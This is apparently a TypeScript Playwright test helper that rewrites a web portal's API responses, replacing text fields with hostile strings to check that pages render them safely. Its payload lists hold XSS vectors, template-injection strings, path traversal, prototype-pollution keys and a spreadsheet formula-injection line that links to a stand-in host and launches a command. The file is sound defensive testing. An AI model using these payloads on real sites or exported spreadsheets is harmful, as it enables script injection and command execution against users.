import type { Page } from 'playwright/test';

declare global {
  interface Window {
    /** Set by every hostile text that gets itself run. */
    hostile?: number;
  }
}

/** A host that no page of the cabinet may ever ask, or lead to. */
export const EVIL = 'evil.example';

const MARKUP =
  '<img src=x onerror="window.hostile=1"><svg onload="window.hostile=2"></svg>' +
  '"><script>window.hostile=3</script><a href="javascript:window.hostile=4">';
/** A direction override and an isolate that are never closed, and characters without a width. */
const DIRECTIONS = '\u202Eтскет\u2066\u200Fа\u200B\u200D\uFEFF\u00AD';
/**
 * Characters that end the records of CSV, of calendars, of 1С and of payment codes, NUL, half of a
 * character.
 */
const BREAKS = '\r\nEND:VEVENT\r\nКонецДокумента\r\n;"\';\t\0\uD800\u2028|Sum=1|';
const TEMPLATES = "${window.hostile=5}{{constructor.constructor('window.hostile=6')()}}%s%n%25%00";
/** Marks above each other, an emoji of many parts, a word without a place to break. */
const SHAPES = `а${'\u0301\u0336'.repeat(60)}👩‍👩‍👧${'W'.repeat(300)}`;

/** Everything in one text. */
const EVERYTHING = MARKUP + DIRECTIONS + BREAKS + TEMPLATES + SHAPES;

/** Texts that are hostile by their beginning, or as a whole. */
const WHOLE_TEXTS = [
  `javascript:window.hostile=7//https://${EVIL}/%0a`,
  `//${EVIL}/?x=1#y`,
  `=HYPERLINK("https://${EVIL}/"&A1;"x")+cmd|'/C calc'!A0`,
  'constructor',
  '__proto__',
  'hasOwnProperty',
  '../../v1/auth/logout?all=1#%2e%2e',
];

/** Ways to spoil answers: `everything` at once in each text, or one text after the other. */
export const HOSTILITIES = {
  everything: () => EVERYTHING,
  'one thing in each': (index: number) => WHOLE_TEXTS[index % WHOLE_TEXTS.length] ?? '',
} as const;

export type Hostility = keyof typeof HOSTILITIES;

/** Ids and dates: without them nothing would be there to be read. */
const KEPT = /^[0-9a-f]{8}-[0-9a-f-]{27}$|^\d{4}-\d\d(-\d\d|$)/i;
/** The number of an agreement names it in addresses and filters. */
const KEPT_NAMES = /^(?:id|.+Id|number)$/;
/** Statuses, roles and kinds, which decide what the page shows. */
const CODE = /^[A-Z][A-Z0-9_]+$/;
/** Without tokens there is no session, and without names of modules there are no sections. */
const KEPT_ANSWERS = /\/auth\/|\/build\/module$/;
/** Codes in this answer are the rights of the user, so they are not spoiled. */
const OWN_CODES = /\/v1\/user$/;

/** Puts hostile texts in the place of all texts that are no ids, dates or, unless told, codes. */
function spoil(value: unknown, textAt: (index: number) => string, codesToo: boolean): unknown {
  let index = 0;
  const spoiled = (inner: unknown, name: string): unknown => {
    if (Array.isArray(inner)) return inner.map((one) => spoiled(one, name));
    if (typeof inner === 'object' && inner !== null) {
      return Object.fromEntries(
        Object.entries(inner).map(([field, one]) => [field, spoiled(one, field)]),
      );
    }
    if (typeof inner !== 'string' || KEPT.test(inner) || KEPT_NAMES.test(name)) return inner;
    if (CODE.test(inner) && !codesToo) return inner;
    index += 1;
    return textAt(index);
  };
  return spoiled(value, '');
}

/** Rewrites all JSON answers that a page gets from here on. */
export async function rewriteAnswers(
  page: Page,
  change: (body: unknown, path: string) => unknown,
): Promise<void> {
  await page.route('**/api/**', async (route) => {
    const { pathname } = new URL(route.request().url());
    const answer = await route.fetch();
    const isJson = answer.headers()['content-type']?.includes('json') === true;
    if (!isJson || KEPT_ANSWERS.test(pathname)) return route.fulfill({ response: answer });
    const body: unknown = await answer.json();
    return route.fulfill({ response: answer, json: change(body, pathname) });
  });
}

/** Spoils every answer that a page gets from here on. */
export function answerWithHostility(page: Page, hostility: Hostility): Promise<void> {
  const textAt = HOSTILITIES[hostility];
  const codesToo = hostility === 'one thing in each';
  return rewriteAnswers(page, (body, path) =>
    spoil(body, textAt, codesToo && !OWN_CODES.test(path)),
  );
}
